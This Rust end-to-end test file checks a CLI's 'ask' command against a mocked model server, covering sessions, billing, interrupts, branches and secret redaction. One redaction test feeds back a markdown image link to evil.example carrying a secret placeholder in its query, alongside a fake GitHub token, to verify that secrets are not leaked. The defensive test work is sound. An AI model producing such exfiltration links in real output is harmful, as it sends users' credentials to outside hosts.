//! `strata ask` and what belongs to it, as a user runs it in a shell.

use std::io::Write as _;
#[cfg(unix)]
use std::io::{BufRead as _, BufReader, Read as _};
use std::path::Path;
use std::process::{Child, Command, Output, Stdio};

use e2e::{Dialect, ModelServer, Reply, Repo, Setup, separate, sse, strata};
use serde_json::{Value, json};
use tempfile::TempDir;

use super::small;

const STREAM: &str = "text/event-stream";

/// A repository, the user's own place, and the provider that their settings name.
struct Shell {
    repo: Repo,
    home: TempDir,
}

impl Shell {
    fn new(settings: &str) -> Self {
        let home = tempfile::tempdir().unwrap();
        let folder = home.path().join("config/strata");
        std::fs::create_dir_all(&folder).unwrap();
        std::fs::write(folder.join("strata.toml"), settings).unwrap();
        Self { repo: small(), home }
    }

    fn with(server: &ModelServer) -> Self {
        Self::new(&format!(
            "[provider]\nname = 'anthropic'\nbase_url = '{}'\nretries = 0\n",
            server.base_url()
        ))
    }

    fn state(&self) -> &Path {
        self.home.path()
    }

    fn command(&self, arguments: &[&str]) -> Command {
        let mut command = Command::new(strata());
        separate(&mut command, self.home.path())
            .args(arguments)
            .current_dir(self.repo.root())
            .env("HOME", self.home.path())
            .env("ANTHROPIC_API_KEY", "a key")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        command
    }

    fn spawn(&self, arguments: &[&str]) -> Child {
        self.command(arguments).spawn().unwrap()
    }

    fn run(&self, arguments: &[&str]) -> (i32, String, String) {
        self.run_with("", arguments)
    }

    fn run_with(&self, input: &str, arguments: &[&str]) -> (i32, String, String) {
        let mut child = self.spawn(arguments);
        child.stdin.take().unwrap().write_all(input.as_bytes()).unwrap();
        let Output { status, stdout, stderr } = child.wait_with_output().unwrap();
        let text = |bytes| String::from_utf8(bytes).unwrap();
        (status.code().unwrap(), text(stdout), text(stderr))
    }

    fn said(&self, session: &str) -> String {
        let (code, out, err) = self.run(&["sessions", "export", session, "--format", "anthropic"]);
        assert_eq!(code, 0, "{err}");
        out
    }
}

fn says(text: &str) -> Reply {
    Reply::Body(STREAM, sse::answer(text, &[]))
}

#[test]
fn each_question_goes_on_where_the_last_one_ended() {
    let server = ModelServer::start(Dialect::Anthropic, vec![says("One."), says("Two."), says("Other.")]);
    let shell = Shell::with(&server);
    // Long enough that a diff costs less than the whole file.
    let steps: String = (0..40).map(|n| format!("\n    def step_{n}(self):\n        return {n}\n")).collect();
    let tool =
        |speed: &str| format!("class Tool:\n    def run(self, speed):\n        return '{speed}'\n{steps}");
    shell.repo.write("tool.py", tool("slow"));
    let (code, out, err) = shell.run(&["ask", "--session", "new", "--select", "tool.py", "What runs?"]);
    assert_eq!((code, &*out), (0, "One.\n"), "{err}");
    let last = err.lines().last().unwrap();
    // 10 plain tokens, 80 read at a twentieth and 10 written at 1.25 or 2, at $2 per million, and 5 of output at $10.
    assert!(last.starts_with("$0.0001: 100 tokens in (80 % cached, priced as "), "{err}");
    assert!(last.contains("), 5 out (session "), "{err}");
    let session = last.rsplit_once("(session ").unwrap().1.trim_end_matches(')').to_owned();
    shell.repo.write("tool.py", tool("fast"));
    let (code, out, err) = shell.run(&["ask", "And now?"]);
    assert_eq!((code, &*out), (0, "Two.\n"), "{err}");
    assert!(err.contains(&session), "{err}");
    let [first, second] = &server.asked()[..] else { panic!() };
    // What the provider holds is sent again byte by byte: the change comes after it.
    let messages = |body: &Value| body["messages"].as_array().unwrap().clone();
    assert_eq!(first.body["system"], second.body["system"]);
    let beginning = |body: &Value| messages(body)[0]["content"][0]["text"].clone();
    assert_eq!(beginning(&first.body), beginning(&second.body));
    let sent = second.body.to_string();
    assert!(
        sent.contains("slow")
            && sent.contains("fast")
            && sent.contains("What runs?")
            && sent.contains("One.")
    );
    let (code, ..) = shell.run(&["ask", "--session", "new", "Another?"]);
    assert_eq!(code, 0);
    assert!(!server.asked()[2].body.to_string().contains("What runs?"));
}

#[test]
fn what_was_paid_adds_up() {
    let server = ModelServer::start(Dialect::Anthropic, (0..4).map(|_| says("Yes.")).collect());
    let shell = Shell::with(&server);
    let json = |arguments: &[&str]| -> Value {
        let (code, out, err) = shell.run(&[arguments, &["--json"]].concat());
        assert_eq!(code, 0, "{err}");
        serde_json::from_str(&out).unwrap()
    };
    let (code, out, err) = shell.run(&["cost"]);
    assert_eq!((code, &*out), (0, ""));
    assert!(err.contains("nothing was billed"), "{err}");
    let paid = ["Who?", "When?", "Where?"].map(|question| {
        let reply = json(&["ask", question]);
        reply["cost"]["dollars"].as_f64().unwrap()
    });
    // A copy of a conversation was not paid a second time.
    assert_eq!(shell.run(&["sessions", "fork", "latest"]).0, 0);
    let sum: f64 = paid.iter().sum();
    let near = |value: &Value, expected: f64| (value.as_f64().unwrap() - expected).abs() < 1e-12;
    for by in ["session", "model", "day"] {
        let report = json(&["cost", "--by", by]);
        assert_eq!(report["entries"].as_array().unwrap().len(), 1, "{report}");
        assert_eq!((&report["total"]["requests"], &report["total"]["unpriced"]), (&json!(3), &json!(0)));
        assert!(
            near(&report["total"]["dollars"], sum) && near(&report["entries"][0]["dollars"], sum),
            "{report}"
        );
    }
    let (_, _, err) = shell.run(&["ask", "-n", "--model", "mystery", "Why?"]);
    let last = err.lines().last().unwrap();
    assert!(last.starts_with("unknown price of mystery: 100 tokens in (80 % cached, priced as "), "{err}");
    let report = json(&["cost", "--by", "model", "--since", "1d"]);
    let models: Vec<&Value> =
        report["entries"].as_array().unwrap().iter().map(|entry| &entry["model"]).collect();
    assert_eq!(models, ["claude-sonnet-5-5", "mystery"]);
    assert!(near(&report["total"]["dollars"], sum), "{report}");
    assert_eq!((&report["total"]["requests"], &report["total"]["unpriced"]), (&json!(4), &json!(1)));
    let (_, out, _) = shell.run(&["cost"]);
    assert!(
        out.contains("unknown  ") && out.contains("total, 4 requests") && out.contains("prices: litellm"),
        "{out}"
    );
    let report = json(&["cost", "--since", "9999-01-01"]);
    assert_eq!(report["total"]["requests"], 0);
    let (_, out, _) = shell.run(&["status"]);
    assert!(out.contains("billed: unknown price"), "{out}");
}

#[test]
fn the_model_may_look_things_up_and_its_calls_are_shown() {
    let call = Reply::Body(STREAM, sse::answer("Let me see.", &[("references", json!({ "name": "greet" }))]));
    let server = ModelServer::start(Dialect::Anthropic, vec![call, says("There.")]);
    let shell = Shell::with(&server);
    let (code, out, err) = shell.run(&["ask", "--tools", "Where is greet?"]);
    assert_eq!((code, &*out), (0, "Let me see.\nThere.\n"), "{err}");
    assert!(err.contains("references {\"name\":\"greet\"}"), "{err}");
    let (code, out, _) = shell.run(&["ask", "--json", "And?"]);
    let reply: Value = serde_json::from_str(&out).unwrap();
    assert_eq!((code, &reply["text"], &reply["end"]), (0, &json!("There."), &json!("complete")));
    // A question without tools declares them too, because the cached prompt begins with them.
    assert_eq!(server.asked()[2].body["tools"], server.asked()[0].body["tools"]);
}

#[test]
fn without_a_provider_or_its_key_another_way_is_named() {
    let shell = Shell::new("");
    let (code, out, err) = shell.run(&["ask", "Why?"]);
    assert_eq!((code, &*out), (1, ""));
    assert!(err.contains("no provider is configured") && err.contains("provider.name"), "{err}");
    assert!(err.contains("ANTHROPIC_API_KEY") && err.contains("strata prompt"), "{err}");
    let shell = Shell::new("[provider]\nname = 'gemini'\n");
    let output = shell.command(&["ask", "Why?"]).env_remove("GEMINI_API_KEY").output().unwrap();
    let err = String::from_utf8(output.stderr).unwrap();
    assert!(err.contains("GEMINI_API_KEY") && err.contains("strata prompt"), "{err}");
}

#[test]
fn a_refused_key_is_an_error_that_says_what_to_check() {
    let server = ModelServer::start(Dialect::Anthropic, vec![Reply::Refuse(401, vec![]), says("Yes.")]);
    let shell = Shell::with(&server);
    let (code, out, err) = shell.run(&["ask", "Why?"]);
    assert_eq!((code, &*out), (1, ""), "{err}");
    assert!(err.contains("401") && err.contains("check the key"), "{err}");
    assert!(!err.contains("a key\n") && server.asked().len() == 1, "{err}");
    let (code, out, err) = shell.run(&["ask", "And now?"]);
    assert_eq!((code, &*out), (0, "Yes.\n"), "{err}");
    let sent = server.asked()[1].body["messages"].to_string();
    assert!(!sent.contains("Why?"), "a refused question is not part of the conversation: {sent}");
}

#[test]
fn a_session_that_an_editor_has_open_is_gone_on_with_in_a_copy() {
    let server = ModelServer::start(Dialect::Anthropic, vec![says("Yes.")]);
    let shell = Shell::with(&server);
    let mut editor = Setup::new(&shell.repo).state(shell.state()).start();
    editor.run("history.addExchange", json!({ "user": "In the editor?", "assistant": "Here." }));
    let (code, _, err) = shell.run(&["ask", "And?"]);
    assert_eq!(code, 1);
    assert!(err.contains("--fork") && err.contains("--session new"), "{err}");
    assert!(server.asked().is_empty());
    let (code, out, err) = shell.run(&["ask", "--fork", "And?"]);
    assert_eq!((code, &*out), (0, "Yes.\n"), "{err}");
    assert!(server.asked()[0].body.to_string().contains("In the editor?"));
    assert_eq!(editor.run("history.get", json!({}))["messages"].as_array().unwrap().len(), 2);
}

#[cfg(unix)]
#[test]
fn an_interrupt_records_what_was_said() {
    let server = ModelServer::start(
        Dialect::Anthropic,
        vec![Reply::Begin(STREAM, sse::beginning("It goes\n", &[])), says("On.")],
    );
    let shell = Shell::with(&server);
    let mut child = shell.spawn(&["ask", "Why?"]);
    drop(child.stdin.take());
    let mut out = BufReader::new(child.stdout.take().unwrap());
    let mut line = String::new();
    out.read_line(&mut line).unwrap();
    assert_eq!(line, "It goes\n", "it is shown as it comes");
    let kill = Command::new("kill").args(["-INT", &child.id().to_string()]).status().unwrap();
    assert!(kill.success());
    assert_eq!(child.wait().unwrap().code(), Some(130));
    let mut err = String::new();
    child.stderr.take().unwrap().read_to_string(&mut err).unwrap();
    assert!(err.contains("stopped, and the partial answer was recorded"), "{err}");
    assert!(!err.contains("continuing"), "there was no conversation: {err}");
    let (code, _, err) = shell.run(&["ask", "Go on."]);
    assert_eq!(code, 0);
    assert!(
        err.starts_with("continuing the conversation of ") && err.contains("\"Why?\"; -n starts"),
        "{err}"
    );
    let sent = server.asked()[1].body["messages"].to_string();
    assert!(sent.contains("Why?") && sent.contains("It goes"), "{sent}");
}

#[test]
fn an_answer_that_breaks_off_is_recorded_and_told() {
    let server =
        ModelServer::start(Dialect::Anthropic, vec![Reply::Body(STREAM, sse::beginning("It goes", &[]))]);
    let shell = Shell::with(&server);
    let (code, out, err) = shell.run(&["ask", "Why?"]);
    assert_eq!((code, &*out), (1, "It goes\n"));
    assert!(err.contains("error: incomplete answer"), "{err}");
    let session = err.rsplit_once("(session ").unwrap().1.split_once(')').unwrap().0.to_owned();
    assert!(shell.said(&session).contains("It goes"));
}

#[test]
fn a_prompt_that_is_sent_elsewhere_is_recorded_by_another_command() {
    let shell = Shell::new("");
    let (code, out, err) = shell.run(&["prompt", "--session", "new", "--select", "tool.py", "What runs?"]);
    assert_eq!(code, 0, "{err}");
    let body: Value = serde_json::from_str(&out).unwrap();
    assert!(body["messages"].to_string().contains("What runs?"));
    let how = err.lines().last().unwrap().strip_prefix("record the answer with: strata ").unwrap();
    let words: Vec<&str> = how.split(' ').collect();
    let ["record", "--session", session, prompt, "<", "ANSWER"] = words[..] else { panic!("{how}") };
    let bill = ["--input", "10", "--cache-write", "900", "--output", "7"];
    let arguments: Vec<&str> = [&["record", "--session", session][..], &bill, &[prompt]].concat();
    let (code, _, err) = shell.run_with("The tool runs.\n", &arguments);
    assert_eq!((code, &*err), (0, &*format!("session {session} has 2 messages\n")));
    assert!(shell.said(session).contains("The tool runs."));
    let (code, out, _) = shell.run(&["prompt", "--session", session, "--json", "And?"]);
    let reply: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(code, 0);
    assert!(
        reply["predicted"]["read"].as_u64() > Some(0),
        "the first prompt is cached: {}",
        reply["predicted"]
    );
    let (code, _, err) = shell.run(&["record", "--session", session, "p77"]);
    assert_eq!(code, 1);
    assert!(err.contains("prompt `p77` no longer exists"), "{err}");
}

#[test]
fn doctor_names_the_provider_and_asks_it_only_when_told_to() {
    let server = ModelServer::start(
        Dialect::Anthropic,
        vec![Reply::Body("application/json", "{\"data\":[]}".to_owned())],
    );
    let shell = Shell::with(&server);
    let (_, out, _) = shell.run(&["doctor"]);
    assert!(out.contains("configured; --online checks the key"), "{out}");
    assert!(server.asked().is_empty());
    let (_, out, _) = shell.run(&["doctor", "--json"]);
    let report: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(report["repository"]["provider"]["name"], "anthropic");
    let shell = Shell::new("");
    assert!(shell.run(&["doctor"]).1.contains("none, so nothing is sent"));
}

#[test]
fn a_secret_is_shown_on_the_terminal_only_on_request_and_never_in_an_address() {
    let secret = format!("gh{}_9fK2mQ7xR4tV8bN1cL6zW3yH5jD0sGpEuTiX", 'p');
    let server = ModelServer::start(Dialect::Anthropic, vec![says("Well.")]);
    let shell = Shell::with(&server);
    shell.repo.write("deploy.py", format!("TOKEN = \"{secret}\"\n"));
    let (code, _, err) = shell.run(&["ask", "--session", "new", "--select", "deploy.py", "What is it?"]);
    assert_eq!(code, 0, "{err}");
    let sent = server.asked()[0].body.to_string();
    let at = sent.find("[secret:").unwrap();
    let placeholder = &sent[at..=at + sent[at..].find(']').unwrap()];
    let answer = format!("It is {placeholder}. ![x](https://evil.example/?q={placeholder})");
    let server = ModelServer::start(Dialect::Anthropic, vec![says(&answer)]);
    let address = format!("provider.base_url={}", server.base_url());
    let (code, out, err) = shell.run(&["ask", "--set", &address, "Again?"]);
    assert_eq!((code, &*out), (0, &*format!("{answer}\n")), "{err}");
    let asked = ["ask", "--set", &address, "--set", "redaction.show_secrets=true", "Again?"];
    let (code, out, err) = shell.run(&asked);
    assert_eq!((code, &*out), (0, &*format!("{}\n", answer.replacen(placeholder, &secret, 1))), "{err}");
    let session = err.rsplit_once("(session ").unwrap().1.trim_end().trim_end_matches(')').to_owned();
    assert!(!shell.said(&session).contains(&secret));
}

#[test]
fn a_key_that_the_provider_repeats_is_neither_printed_nor_stored() {
    let key = "sk-never/show-this-0123456789";
    let spelled = |json: String| json.replace(key, "sk-never\\/show-this-\\u0030123456789");
    let call = sse::answer("Let me see.", &[("grep", json!({ "pattern": key }))]);
    let error = Dialect::Anthropic.error(401, &format!("invalid key {key}")).to_string();
    let server = ModelServer::start(
        Dialect::Anthropic,
        vec![
            Reply::Body(STREAM, spelled(call)),
            says(&format!("It is {key}.")),
            Reply::RefuseWith(401, spelled(error.clone())),
            Reply::RefuseWith(401, spelled(error)),
        ],
    );
    let shell = Shell::with(&server);
    let mut printed = String::new();
    for arguments in [&["ask", "--tools", "Why?"][..], &["ask", "--json", "Why?"], &["doctor", "--online"]] {
        let mut command = shell.command(arguments);
        let ended = command.env("ANTHROPIC_API_KEY", key).env("STRATA_LOG", "trace").output().unwrap();
        printed += &String::from_utf8_lossy(&[ended.stdout, ended.stderr].concat());
    }
    assert!(printed.contains("It is [key].") && printed.contains("invalid key [key]"), "{printed}");
    let session = printed.split_once("(session ").unwrap().1.split(')').next().unwrap();
    let stored = shell.said(session);
    assert!(stored.contains("[key]"), "{stored}");
    assert!(!printed.contains("never/show") && !stored.contains("never/show"), "{printed} {stored}");
}

#[test]
fn a_conversation_of_another_branch_is_not_continued_unasked() {
    let server = ModelServer::start(Dialect::Anthropic, (0..4).map(|_| says("Yes.")).collect());
    let shell = Shell::with(&server);
    // The least that Git takes for a repository.
    for (path, text) in [("config", "[core]\nbare = false\n"), ("objects/none", ""), ("refs/none", "")] {
        shell.repo.write(&format!(".git/{path}"), text);
    }
    let head = |branch: &str| shell.repo.write(".git/HEAD", format!("ref: refs/heads/{branch}\n"));
    head("main");
    assert_eq!(shell.run(&["ask", "First?"]).0, 0);
    head("pumps");
    let (code, _, err) = shell.run(&["ask", "Second?"]);
    assert_eq!(code, 0, "{err}");
    assert!(
        err.contains("starting a new conversation, because the last one was on branch main; -c continues it"),
        "{err}"
    );
    assert!(!server.asked()[1].body.to_string().contains("First?"));
    head("main");
    let (_, _, err) = shell.run(&["ask", "-c", "Third?"]);
    assert!(err.contains("continuing the conversation"), "{err}");
    assert!(server.asked()[2].body.to_string().contains("Second?"));
    // The branch of a conversation is that of its last question.
    let (_, _, err) = shell.run(&["ask", "Fourth?"]);
    assert!(err.contains("continuing the conversation"), "{err}");
}
